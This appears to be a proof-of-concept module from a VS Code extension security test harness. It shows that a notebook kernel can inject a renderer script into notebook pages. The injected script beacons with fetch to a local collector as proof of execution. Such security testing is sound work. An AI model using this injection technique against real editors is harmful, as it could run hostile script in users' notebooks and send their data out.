// A kernel brings scripts into the page of every notebook that it is chosen for, beside what others put out there.
"use strict";
const fs = require("node:fs");
const { attack } = require("./attack");

exports.activate = (context) =>
  attack(context, "notebook", {
    async preload({ collector, mark, workspace }, vscode) {
      const at = (name) => vscode.Uri.file(`${workspace}/.proof/notebook.${name}`);
      fs.writeFileSync(at("js").fsPath, `void fetch("https://${mark}.localhost:${collector}/");\nexport {};\n`);
      const cells = [{ cell_type: "markdown", metadata: {}, source: ["# x"] }, { cell_type: "code", metadata: {}, source: ["1"], outputs: [], execution_count: null }];
      fs.writeFileSync(at("ipynb").fsPath, JSON.stringify({ cells, metadata: {}, nbformat: 4, nbformat_minor: 5 }));
      context.subscriptions.push(vscode.notebooks.createNotebookController("proof-kernel", "jupyter-notebook", "Proof", () => {}, [new vscode.NotebookRendererScript(at("js"))]));
      await vscode.window.showNotebookDocument(await vscode.workspace.openNotebookDocument(at("ipynb")));
      // The only one there is, so it is chosen.
      await vscode.commands.executeCommand("notebook.execute");
    },
  });
